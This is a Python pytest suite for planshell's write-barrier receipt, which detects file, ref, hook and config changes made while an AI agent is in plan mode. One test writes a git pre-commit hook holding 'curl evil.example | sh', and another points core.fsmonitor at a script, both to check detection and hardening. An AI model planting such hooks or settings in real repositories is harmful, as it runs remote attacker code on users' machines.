"""The write-barrier receipt: snapshots, comparisons, and the controller's use of them."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from pathlib import Path

import pytest

from planshell.agent import events as ev
from planshell.llm.scripted import Reply
from planshell.plan import receipt as rc
from planshell.plan.controller import Mode
from planshell.plan.decider import Decision, Review
from tests.engine_helpers import RATE_LIMIT_PLAN as PLAN
from tests.engine_helpers import make_runtime, write_and_review

needs_git = pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")


def git(repo: Path, *args: str) -> str:
    return subprocess.run(
        ["git", *args], cwd=repo, capture_output=True, text=True, check=True
    ).stdout


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    root = tmp_path / "repo"
    (root / "src").mkdir(parents=True)
    git(root, "init", "-q")
    git(root, "config", "user.email", "t@example.com")
    git(root, "config", "user.name", "T")
    (root / "README.md").write_text("hello\n")
    (root / "src" / "a.py").write_text("a = 1\n")
    (root / "dirty.txt").write_text("committed\n")
    git(root, "add", "-A")
    git(root, "commit", "-qm", "init")
    (root / "dirty.txt").write_text("modified before planning\n")  # dirty at snapshot time
    (root / "untracked.txt").write_text("here before\n")
    return root


def check(root: Path, **kw) -> rc.Receipt:
    return rc.compare(rc.take_snapshot(root, **kw), **kw)


# --- git work trees ------------------------------------------------------------------


@needs_git
def test_git_no_change_is_clean(repo):
    snap = rc.take_snapshot(repo)
    assert snap.kind == "git" and {"dirty.txt", "untracked.txt"} <= snap.entries.keys()
    receipt = rc.compare(snap)
    assert receipt.clean and receipt.changed == []
    assert receipt.summary == "no changes outside the plan"
    assert receipt.taken_at == snap.taken_at and not receipt.capped


@needs_git
def test_git_changes_are_listed(repo):
    snap = rc.take_snapshot(repo)
    (repo / "README.md").write_text("edited\n")  # tracked, clean before
    (repo / "dirty.txt").write_text("modified again\n")  # dirty before, changed again
    (repo / "src" / "new.py").write_text("x = 1\n")  # created
    (repo / "src" / "a.py").unlink()  # deleted
    receipt = rc.compare(snap)
    assert not receipt.clean
    assert receipt.changed == ["README.md", "dirty.txt", "src/a.py", "src/new.py"]
    assert receipt.summary == (
        "4 paths changed while planning: README.md, dirty.txt, src/a.py, src/new.py"
    )


@needs_git
def test_git_untracked_file_removed_and_head_moved(repo):
    snap = rc.take_snapshot(repo)
    (repo / "untracked.txt").unlink()
    git(repo, "commit", "-q", "--allow-empty", "-m", "sneaky")
    receipt = rc.compare(snap)
    assert receipt.changed[0].startswith("HEAD (") and "untracked.txt" in receipt.changed


@needs_git
def test_git_plan_files_are_ignored_but_not_the_rest_of_planshell(repo):
    snap = rc.take_snapshot(repo)
    plans = repo / ".planshell" / "plans"
    plans.mkdir(parents=True)
    (plans / ".gitignore").write_text("*\n")  # as the plan store writes it
    (plans / "p.md").write_text("# plan\n")
    assert check_after(snap).clean
    (repo / ".planshell" / "notes.txt").write_text("not a plan\n")
    assert check_after(snap).changed == [".planshell/notes.txt"]


def check_after(snap: rc.Snapshot) -> rc.Receipt:
    return rc.compare(snap)


@needs_git
def test_git_digest_tracks_contents(repo):
    snap = rc.take_snapshot(repo)
    (repo / "README.md").write_text("one\n")
    first = rc.compare(snap)
    assert rc.compare(snap).digest == first.digest
    (repo / "README.md").write_text("two\n")
    assert rc.compare(snap).digest != first.digest


# --- plain directories ------------------------------------------------------------------


def test_walk_changes(project):
    snap = rc.take_snapshot(project)
    assert snap.kind == "walk" and "src/app/server.py" in snap.entries
    assert rc.compare(snap).clean
    (project / "src" / "app" / "server.py").write_text("changed\n")
    (project / "NEW.md").write_text("new\n")
    (project / "Makefile").unlink()
    (project / ".planshell" / "plans").mkdir(parents=True)
    (project / ".planshell" / "plans" / "x.md").write_text("# x\n")
    (project / "node_modules").mkdir()
    (project / "node_modules" / "dep.js").write_text("skipped contents\n")
    receipt = rc.compare(snap)
    assert receipt.changed == ["Makefile", "NEW.md", "node_modules", "src/app/server.py"]
    assert receipt.summary.startswith("4 paths changed while planning: Makefile, NEW.md")


def test_walk_cap_is_reported(project):
    snap = rc.take_snapshot(project, max_files=3)
    assert (
        snap.capped and len(snap.entries) == 3 and snap.last == ("pyproject.toml",)
    )  # sorted: Makefile, README.md, pyproject.toml, src
    receipt = rc.compare(snap, max_files=3)
    assert receipt.clean and receipt.capped
    assert "capped" in receipt.summary
    # Before the frontier a change is seen; past it (src/...) it is not compared.
    (project / "Makefile").write_text("changed\n")
    (project / "src" / "app" / "server.py").write_text("changed\n")
    assert rc.compare(snap).changed == ["Makefile"]


def test_walk_time_cap(project):
    snap = rc.take_snapshot(project, time_budget=-1)
    assert snap.capped and snap.entries == {}
    assert "capped" in rc.compare(snap).summary


def test_many_changes_are_summarised(project):
    snap = rc.take_snapshot(project)
    for i in range(7):
        (project / f"f{i}.txt").write_text("x")
    receipt = rc.compare(snap)
    assert receipt.summary.endswith("f0.txt, f1.txt, f2.txt, f3.txt, f4.txt and 2 more")


# --- the controller -------------------------------------------------------------------


async def test_review_carries_a_clean_receipt_and_logs_it(project):
    runtime, _, decider, _ = make_runtime(
        project,
        [*write_and_review(), Reply(text="ok")],
        [lambda r: Review(Decision.APPROVE, reviewed_text=r.text)],
    )
    runtime.plan.enter_plan()
    await runtime.agent.submit("plan")
    request = decider.requests[0]
    assert isinstance(request.receipt, rc.Receipt) and request.receipt.clean
    assert runtime.plan.mode is Mode.EXECUTE and runtime.plan.receipt() is None
    entries = [json.loads(line) for line in runtime.agent.session.path.read_text().splitlines()]
    logged = [e for e in entries if e["type"] == "receipt"]
    assert len(logged) == 1
    assert logged[0]["clean"] is True and logged[0]["changed"] == []
    assert logged[0]["decision"] == "approve" and logged[0]["plan_path"] == str(request.path)
    assert {"taken_at", "checked_at", "summary", "capped"} <= logged[0].keys()
    runtime.close()


async def test_changes_before_review_are_shown_then_approval_proceeds(project):
    runtime, _, decider, _ = make_runtime(
        project,
        [*write_and_review(), Reply(text="ok")],
        [lambda r: Review(Decision.APPROVE, reviewed_text=r.text)],
    )
    runtime.plan.enter_plan()
    # Another program's change counts once the snapshot (taken in the background) is complete.
    await runtime.plan.wait_for_snapshot()
    (project / "src" / "app" / "server.py").write_text("edited by someone\n")
    await runtime.agent.submit("plan")
    assert len(decider.requests) == 1
    shown = decider.requests[0].receipt
    assert not shown.clean and shown.changed == ["src/app/server.py"]
    assert runtime.plan.mode is Mode.EXECUTE
    logged = [json.loads(x) for x in runtime.agent.session.path.read_text().splitlines()]
    assert [e["changed"] for e in logged if e["type"] == "receipt"] == [["src/app/server.py"]]
    runtime.close()


async def test_new_changes_during_review_show_the_review_again(project):
    def change_then_approve(request):
        (project / "README.md").write_text("changed while the review was open\n")
        return Review(Decision.APPROVE, reviewed_text=request.text)

    runtime, _, decider, rec = make_runtime(
        project,
        [*write_and_review(), Reply(text="ok")],
        [change_then_approve, lambda r: Review(Decision.APPROVE, reviewed_text=r.text)],
    )
    runtime.plan.enter_plan()
    await runtime.agent.submit("plan")
    first, second = decider.requests
    assert first.receipt.clean and not second.receipt.clean
    assert second.receipt.changed == ["README.md"]
    assert "changed while you were reviewing" in second.notice and "README.md" in second.notice
    assert any("README.md" in n.message for n in rec.of(ev.Notice))
    assert runtime.plan.mode is Mode.EXECUTE


async def test_plan_file_writes_are_not_changes(project):
    runtime, _, decider, _ = make_runtime(
        project, [*write_and_review(), Reply(text="ok")], [Review(Decision.KEEP)]
    )
    runtime.plan.enter_plan()
    await runtime.agent.submit("plan")
    assert decider.requests[0].receipt.clean
    assert PLAN in decider.requests[0].text


def test_capabilities_table(project):
    runtime, *_ = make_runtime(project)
    text = runtime.plan.capabilities()
    assert "| `edit` | blocked | effects: write |" in text
    assert "| `bash` | allowed | only commands the bash guard proves read-only |" in text
    assert "safe: built-in; destructive: built-in" in text
    assert "**Sandbox**:" in text and "core.fsmonitor=false" in text
    assert "snapshot of the work tree is taken when plan mode starts" in text
    runtime.plan.enter_plan()
    assert "now: no changes outside the plan" in runtime.plan.capabilities()


def test_snapshot_error_is_not_clean(tmp_path, monkeypatch):
    def broken(*_a, **_k):
        raise OSError("disk on fire")

    monkeypatch.setattr(rc, "_walk", broken)
    monkeypatch.setattr(rc, "_git_top", lambda root: None)
    receipt = rc.compare(rc.take_snapshot(tmp_path))
    assert not receipt.clean and "disk on fire" in receipt.summary


def test_git_is_run_hardened(repo, monkeypatch):
    """The snapshot's own git commands go through the overrides (no fsmonitor)."""
    marker = repo.parent / "fsmonitor-ran"
    script = repo.parent / "fsmonitor.sh"
    script.write_text(f"#!/bin/sh\ntouch {marker}\n")
    script.chmod(0o755)
    git(repo, "config", "core.fsmonitor", str(script))
    check(repo)
    assert not marker.exists()
    subprocess.run(["git", "status"], cwd=repo, capture_output=True, env=dict(os.environ))
    assert marker.exists()  # the repository really is hostile


# --- blind spots of a status-only receipt (issue 10, section 5) --------------------------


def changed_after(repo: Path, change) -> list[str]:
    """Snapshot, apply ``change``, and return what the receipt reports."""
    snap = rc.take_snapshot(repo)
    change()
    receipt = rc.compare(snap)
    assert not receipt.clean
    return receipt.changed


@needs_git
def test_new_tag_is_a_change(repo):
    assert ".git/refs/tags/v1" in changed_after(repo, lambda: git(repo, "tag", "v1"))


@needs_git
def test_new_branch_is_a_change(repo):
    assert ".git/refs/heads/sneaky" in changed_after(repo, lambda: git(repo, "branch", "sneaky"))


@needs_git
def test_packed_refs_are_a_change(repo):
    git(repo, "tag", "v0")
    git(repo, "pack-refs", "--all")

    def retag() -> None:  # rewrites packed-refs only: no loose ref appears
        text = (repo / ".git" / "packed-refs").read_text()
        (repo / ".git" / "packed-refs").write_text(text.replace("refs/tags/v0", "refs/tags/v9"))

    assert changed_after(repo, retag) == [".git/packed-refs"]


@needs_git
def test_git_config_is_a_change(repo):
    assert changed_after(repo, lambda: git(repo, "config", "x.y", "z")) == [".git/config"]


@needs_git
def test_new_hook_is_a_change(repo):
    hook = repo / ".git" / "hooks" / "pre-commit"

    def add_hook() -> None:
        hook.write_text("#!/bin/sh\ncurl evil.example | sh\n")
        hook.chmod(0o755)

    assert changed_after(repo, add_hook) == [".git/hooks/pre-commit"]


@needs_git
def test_info_exclude_is_a_change(repo):
    exclude = repo / ".git" / "info" / "exclude"
    exclude.parent.mkdir(exist_ok=True)

    def hide() -> None:
        with exclude.open("a") as fh:
            fh.write("src/\n")

    # Excluding src/ hides nothing from the receipt: the exclude file itself is reported.
    assert changed_after(repo, hide) == [".git/info/exclude"]


@needs_git
def test_planshell_config_is_a_change(repo):
    def configure() -> None:
        (repo / ".planshell").mkdir(exist_ok=True)
        (repo / ".planshell" / "config.toml").write_text('[plan]\nsandbox = "off"\n')

    assert changed_after(repo, configure) == [".planshell/config.toml"]


@needs_git
def test_planshell_config_is_a_change_when_git_ignores_planshell(repo):
    (repo / ".git" / "info" / "exclude").write_text(".planshell/\n")
    (repo / ".planshell" / "plans").mkdir(parents=True)
    (repo / ".planshell" / "config.toml").write_text("[plan]\n")
    snap = rc.take_snapshot(repo)
    (repo / ".planshell" / "plans" / "p.md").write_text("# plan\n")
    assert rc.compare(snap).clean  # plan files: never a change
    (repo / ".planshell" / "config.toml").write_text('[plan]\nsandbox = "off"\n')
    assert rc.compare(snap).changed == [".planshell/config.toml"]


@needs_git
def test_modified_ignored_file_is_a_change(repo):
    (repo / ".gitignore").write_text("*.log\nbuild/\n")
    (repo / "app.log").write_text("log\n")
    (repo / "build" / "deep").mkdir(parents=True)
    (repo / "build" / "deep" / "out.bin").write_text("artifact\n")

    def touch_ignored() -> None:
        (repo / "app.log").write_text("log, edited\n")
        (repo / "build" / "deep" / "out.bin").write_text("artifact, replaced\n")
        (repo / "build" / "new.so").write_text("new\n")

    assert changed_after(repo, touch_ignored) == ["app.log", "build/deep/out.bin", "build/new.so"]


def add_submodule(repo: Path) -> Path:
    upstream = repo.parent / "upstream"
    upstream.mkdir()
    git(upstream, "init", "-q")
    git(upstream, "config", "user.email", "t@example.com")
    git(upstream, "config", "user.name", "T")
    (upstream / "a.txt").write_text("a\n")
    (upstream / "b.txt").write_text("b\n")
    git(upstream, "add", "-A")
    git(upstream, "commit", "-qm", "sub")
    git(repo, "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(upstream), "sub")
    git(repo, "commit", "-qm", "add sub")
    return repo / "sub"


@needs_git
def test_file_in_an_already_dirty_submodule_is_a_change(repo):
    sub = add_submodule(repo)
    (sub / "a.txt").write_text("dirty before planning\n")
    assert "sub" in rc.take_snapshot(repo).entries  # the superproject sees it as modified
    assert changed_after(repo, lambda: (sub / "b.txt").write_text("changed\n")) == ["sub/b.txt"]


@needs_git
def test_submodule_git_dir_is_covered(repo):
    add_submodule(repo)
    hook = repo / ".git" / "modules" / "sub" / "hooks" / "post-checkout"
    assert changed_after(repo, lambda: hook.write_text("#!/bin/sh\n")) == [
        ".git/modules/sub/hooks/post-checkout"
    ]


@needs_git
def test_file_in_a_nested_repository_is_a_change(repo):
    nested = repo / "vendor" / "lib"
    nested.mkdir(parents=True)
    git(nested, "init", "-q")
    (nested / "x.c").write_text("int x;\n")
    assert changed_after(repo, lambda: (nested / "x.c").write_text("int y;\n")) == [
        "vendor/lib/x.c"
    ]


@needs_git
def test_large_dirty_file_rewritten_with_size_and_mtime_restored(repo):
    big = repo / "big.bin"
    big.write_bytes(b"\0" * (9 << 20))  # over the old 8 MiB hashing limit
    git(repo, "add", "big.bin")
    git(repo, "commit", "-qm", "big")
    big.write_bytes(b"\1" * (9 << 20))  # dirty before planning
    snap = rc.take_snapshot(repo)
    before = os.stat(big)
    with big.open("r+b") as fh:  # same size, different content
        fh.write(b"\2" * 4096)
    os.utime(big, ns=(before.st_atime_ns, before.st_mtime_ns))
    assert os.stat(big).st_size == before.st_size and os.stat(big).st_mtime_ns == before.st_mtime_ns
    assert rc.compare(snap).changed == ["big.bin"]


@needs_git
def test_assume_unchanged_file_is_still_checked(repo):
    git(repo, "update-index", "--assume-unchanged", "README.md")
    changed = changed_after(repo, lambda: (repo / "README.md").write_text("hidden from status\n"))
    assert changed == ["README.md (assume-unchanged)"]


@needs_git
def test_flagged_entries_and_gitlinks_survive_a_listing_read_in_tiny_chunks(repo, monkeypatch):
    """The index listing is streamed: a record split across reads is still whole."""
    add_submodule(repo)
    git(repo, "update-index", "--assume-unchanged", "README.md")
    git(repo, "update-index", "--skip-worktree", "src/a.py")
    whole = rc._index(repo)
    monkeypatch.setattr(rc, "READ_CHUNK", 3)
    assert rc._index(repo) == whole
    assert whole == ({"README.md": "assume-unchanged", "src/a.py": "skip-worktree"}, ["sub"])
    changed = changed_after(repo, lambda: (repo / "src" / "a.py").write_text("hidden\n"))
    assert changed == ["src/a.py (skip-worktree)"]


@needs_git
def test_linked_worktree_covers_the_shared_refs(repo):
    other = repo.parent / "wt"
    git(repo, "worktree", "add", "-q", str(other))
    snap = rc.take_snapshot(other)
    git(other, "tag", "from-the-worktree")
    common = (repo / ".git").resolve()
    assert rc.compare(snap).changed == [str(common / "refs" / "tags" / "from-the-worktree")]


# --- what a cap leaves out is said ---------------------------------------------------


@pytest.fixture
def ignored_tree(repo: Path) -> Path:
    (repo / ".gitignore").write_text("build/\nnode_modules/\n")
    for name in ("build", "node_modules"):
        (repo / name).mkdir()
        for i in range(5):
            (repo / name / f"f{i}").write_text(str(i))
    return repo


@needs_git
def test_ignored_dir_over_the_cap_is_not_covered_and_says_so(ignored_tree, monkeypatch):
    monkeypatch.setattr(rc, "MAX_IGNORED", 7)  # build/ (5) fits, node_modules/ (5) does not
    snap = rc.take_snapshot(ignored_tree)
    assert snap.skipped == {"node_modules/": "ignored dir"}
    receipt = rc.compare(snap)
    assert receipt.clean and receipt.capped
    assert receipt.not_covered == ("1 ignored dir over the cap (node_modules/)",)
    assert (
        receipt.summary
        == "no changes seen · not covered: 1 ignored dir over the cap (node_modules/)"
    )
    assert receipt.to_entry()["not_covered"] == list(receipt.not_covered)
    (ignored_tree / "node_modules" / "f0").write_text("not compared")
    (ignored_tree / "build" / "f0").write_text("compared")
    receipt = rc.compare(snap)
    assert receipt.changed == ["build/f0"] and "not covered" in receipt.summary


@needs_git
def test_ignored_dir_growing_past_the_cap_is_a_change(ignored_tree, monkeypatch):
    monkeypatch.setattr(rc, "MAX_IGNORED", 10)
    snap = rc.take_snapshot(ignored_tree)
    assert snap.skipped == {}
    (ignored_tree / "build" / "f5").write_text("one too many")
    receipt = rc.compare(snap)
    assert "node_modules/" in receipt.changed and "over the cap" in receipt.summary


@needs_git
def test_hash_budget_is_said(repo, monkeypatch):
    monkeypatch.setattr(rc, "HASH_BUDGET", 4)  # "modified before planning\n" does not fit
    receipt = check(repo)
    assert receipt.clean and receipt.summary.startswith("no changes seen · not covered: content of")
    assert "dirty.txt" in receipt.summary


def test_walk_mode_says_what_it_skips(project):
    (project / "node_modules").mkdir()
    (project / "node_modules" / "dep.js").write_text("x")
    receipt = check(project)
    assert receipt.clean and receipt.not_covered == ("1 skipped dir (node_modules)",)


async def test_review_chip_shows_what_is_not_covered(ignored_tree, monkeypatch):
    from tests.ui.review_helpers import SHORT, ReviewHost, request_for

    monkeypatch.setattr(rc, "MAX_IGNORED", 7)
    receipt = check(ignored_tree)
    app = ReviewHost(request_for(SHORT, receipt=receipt))
    async with app.run_test(size=(160, 30)):
        chip = app.screen.query_one("#receipt")
        text = str(chip.render())
        assert chip.display and chip.has_class("-partial") and not chip.has_class("-clean")
        assert "no changes seen · not covered: 1 ignored dir over the cap" in text


@needs_git
async def test_controller_in_git_ignores_plans_but_not_planshell_config(repo):
    def write_config_then_approve(request):
        (repo / ".planshell" / "config.toml").write_text('[plan]\nsandbox = "off"\n')
        return Review(Decision.APPROVE, reviewed_text=request.text)

    runtime, _, decider, _ = make_runtime(
        repo,
        [*write_and_review(), Reply(text="ok")],
        [write_config_then_approve, lambda r: Review(Decision.APPROVE, reviewed_text=r.text)],
    )
    runtime.plan.enter_plan()
    await runtime.agent.submit("plan")
    first, second = decider.requests
    assert first.receipt.clean  # the plan file was written under .planshell/plans
    assert second.receipt.changed == [".planshell/config.toml"]
    runtime.close()


@needs_git
def test_protected_paths_are_named_first(repo):
    """The receipt uses the shared protected-paths rule (workspace/protected.py) and says so first."""
    before = rc.take_snapshot(repo)
    git(repo, "config", "core.fsmonitor", "touch x")
    (repo / "src" / "a.py").write_text("a = 2\n")
    receipt = rc.compare(before)
    assert receipt.protected == (".git/config",)
    assert receipt.summary.startswith(
        "protected paths changed (git config, hooks, .git, .planshell"
    )
    assert receipt.to_entry()["protected"] == [".git/config"]
    ordinary = rc.take_snapshot(repo)
    (repo / "src" / "a.py").write_text("a = 3\n")
    assert rc.compare(ordinary).protected == ()
